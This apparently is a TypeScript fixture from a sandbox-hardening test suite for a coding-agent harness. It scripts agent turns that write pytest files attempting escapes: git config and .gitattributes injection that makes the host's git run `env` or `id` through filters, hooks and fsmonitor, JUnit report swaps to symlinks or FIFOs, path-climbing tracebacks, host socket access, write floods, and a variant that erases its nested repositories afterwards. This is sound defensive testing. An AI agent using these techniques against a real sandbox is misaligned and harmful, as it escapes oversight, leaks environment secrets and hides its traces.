// The attack suite's repository code: pytest files a scripted coder writes, each aiming at one way out of the sandbox
// that was seen to work before (issue: the sandbox, for real). Each reads its targets from ATTACK_* variables.
import { turn, type ScriptTurn } from '../../support/calc-project.js';

const fixedCalc = 'def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n';

// Builds a git folder inside the worktree whose config runs a command through every setting that can (filter,
// textconv, diff and merge drivers, fsmonitor, sshCommand, hooks, include), points the worktree's .git at it and
// names the filter in .gitattributes. Each step may be refused (bwrap binds .git read-only): the test passes anyway,
// so the attempt goes on to taskloop's own git.
const gitSwapTest = `import os

MARK = os.environ['ATTACK_MARKER']
RUN = "sh -c 'env > %s; cat'" % MARK

def test_swap_the_git_pointer():
    real = open('.git').read().split('gitdir: ', 1)[1].strip()
    common = os.path.normpath(os.path.join(real, open(os.path.join(real, 'commondir')).read().strip()))
    fake = os.path.abspath('fakegit')
    for sub in ('objects/info', 'refs/heads', 'hooks'):
        os.makedirs(os.path.join(fake, sub), exist_ok=True)
    open(os.path.join(fake, 'objects', 'info', 'alternates'), 'w').write(os.path.join(common, 'objects') + '\\n')
    open(os.path.join(fake, 'HEAD'), 'w').write(open(os.path.join(real, 'HEAD')).read())
    for hook in ('pre-commit', 'post-commit', 'post-index-change'):
        path = os.path.join(fake, 'hooks', hook)
        open(path, 'w').write('#!/bin/sh\\nenv > %s\\n' % MARK)
        os.chmod(path, 0o755)
    open(os.path.join(fake, 'config'), 'w').write(
        '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "%s"\\n\\tsshCommand = "%s"\\n\\thooksPath = %s\\n'
        '[filter "x"]\\n\\tclean = "%s"\\n\\tsmudge = "%s"\\n\\trequired = true\\n'
        '[diff "x"]\\n\\ttextconv = "%s"\\n\\tcommand = "%s"\\n[merge "x"]\\n\\tdriver = "%s"\\n'
        '[include]\\n\\tpath = %s.inc\\n' % (RUN, RUN, os.path.join(fake, 'hooks'), RUN, RUN, RUN, RUN, RUN, MARK))
    open('.gitattributes', 'w').write('* filter=x diff=x merge=x\\n')
    try:
        with open('.git', 'w') as pointer:
            pointer.write('gitdir: fakegit\\n')
    except OSError:
        pass
`;

// Replaces pytest's JUnit report, once pytest wrote it, by something that is not a plain report.
const reportSwapTest = `import atexit, os, sys

def _swap():
    report = next((arg.split('=', 1)[1] for arg in sys.argv if arg.startswith('--junitxml=')), None)
    if report is None:
        return
    os.remove(report)
    kind = os.environ['ATTACK_KIND']
    if kind == 'link':
        os.symlink(os.environ['ATTACK_TARGET'], report)
    elif kind == 'fifo':
        os.mkfifo(report)
    elif kind == 'zero':
        os.symlink('/dev/zero', report)
    elif kind == 'dir':
        os.mkdir(report)

atexit.register(_swap)

def test_passes():
    assert True
`;

// A failing test whose traceback names a host file by a path that climbs out of the worktree.
const tracebackTest = `import os

def test_fails_in_a_host_file():
    relative = os.path.relpath(os.environ['ATTACK_TARGET'], os.getcwd())
    exec(compile('raise AssertionError("boom")\\n', relative, 'exec'))
`;

/**
 * Connects to the host's two unix sockets as the attack does; run on the host too (the suite's control), so a refusal
 * in the sandbox means the sandbox, not a wrong name. Node binds an abstract name padded with NULs to the whole
 * address (108 bytes): the same bytes are asked for here, or the attack would try a name nobody holds.
 */
export const socketClientPy = `import os, socket

def _ask(address):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.settimeout(3)
    client.connect(address)
    assert client.recv(16)

def test_filesystem_socket():
    _ask(os.environ['ATTACK_SOCKET'])

def test_abstract_socket():
    _ask(('\\0' + os.environ['ATTACK_ABSTRACT']).ljust(108, '\\0'))
`;

// What the smaller root leaves out: the host's unix sockets (a file one and an abstract one) and taskloop's state.
const hostTests = `${socketClientPy}

def test_read_events_file():
    assert open(os.environ['ATTACK_EVENTS']).read() is not None

def test_list_state_folder():
    # An empty folder standing in for it (a hidden folder under the private /tmp) shows nothing of it.
    assert os.listdir(os.environ['ATTACK_STATE'])
`;

// Three files, each under the per-file cap, together over the run's written bytes.
const writeFloodTest = `import os

def test_write_three_files():
    chunk = b'x' * (1024 * 1024)
    for index in range(3):
        with open('flood-%d.bin' % index, 'wb') as handle:
            for _ in range(12):
                handle.write(chunk)
`;

const write = (path: string, content: string) => turn('write_file', { path, content });
const finish = turn('finish', { summary: 'done' });

export const attackTurns = {
  gitSwap: (): ScriptTurn[] => [write('calc.py', fixedCalc), write('tests/test_swap.py', gitSwapTest), finish],
  reportSwap: (): ScriptTurn[] => [write('calc.py', fixedCalc), write('tests/test_report.py', reportSwapTest), finish],
  // Two attempts: the second one's context is built from the first one's traceback.
  traceback: (): ScriptTurn[] => [write('tests/test_trace.py', tracebackTest), finish, finish],
  host: (): ScriptTurn[] => [write('tests/test_host.py', hostTests), finish],
  writeFlood: (): ScriptTurn[] => [write('tests/test_flood.py', writeFloodTest), finish],
  secretName: (secret: string): ScriptTurn[] => [write(`notes_${secret}.py`, 'X = 1\n'), finish],
};

// Makes nested git repositories at import time (so the coder's own run_tests makes them), each with a filter its own
// config defines and its own .gitattributes names, and a file whose changed mtime makes `git status` there hash it
// through that filter: `vendored/` untracked (`git add -A` would stage it as a gitlink), `sub/` in the folder of a
// submodule the base commit holds (any host `git status` or `git diff HEAD` over the worktree recurses into it).
const nestedRepoTest = `import os, subprocess

MARK = os.environ['ATTACK_MARKER']

def _nested(folder):
    if os.path.isdir(os.path.join(folder, '.git')):
        return
    os.makedirs(folder, exist_ok=True)
    def git(*args):
        subprocess.run(['git', '-C', folder, '-c', 'user.name=a', '-c', 'user.email=a@a', *args], check=True,
                       capture_output=True)
    git('init', '-q')
    with open(os.path.join(folder, 'f.txt'), 'w') as handle:
        handle.write('hi\\n')
    git('add', 'f.txt')
    git('commit', '-qm', 'nested')
    git('config', 'filter.pwn.clean', "sh -c 'id >> %s; cat'" % MARK)
    git('config', 'filter.pwn.required', 'true')
    with open(os.path.join(folder, '.gitattributes'), 'w') as handle:
        handle.write('* filter=pwn\\n')
    os.utime(os.path.join(folder, 'f.txt'), (1, 1))

_nested('vendored')
_nested('sub')

def test_passes():
    assert True
`;

// The same test file once the coder looked: the nested repositories gone, the submodule's folder empty again.
const nestedRepoGoneTest = `import os, shutil

for folder in ('vendored', 'sub'):
    shutil.rmtree(folder, ignore_errors=True)
os.makedirs('sub', exist_ok=True)

def test_passes():
    assert True
`;

export const nestedRepoTurns = {
  /** The test node's own run meets the nested repositories (the coder's run_tests made them). */
  testRun: (): ScriptTurn[] => [
    write('calc.py', fixedCalc),
    write('tests/test_nested.py', nestedRepoTest),
    turn('run_tests', {}),
    finish,
  ],
  /** Only the coder's git_diff meets them: the coder's next run removes them before the test node. */
  gitDiff: (): ScriptTurn[] => [
    write('calc.py', fixedCalc),
    write('tests/test_nested.py', nestedRepoTest),
    turn('run_tests', {}),
    turn('git_diff', {}),
    write('tests/test_nested.py', nestedRepoGoneTest),
    turn('run_tests', {}),
    finish,
  ],
};
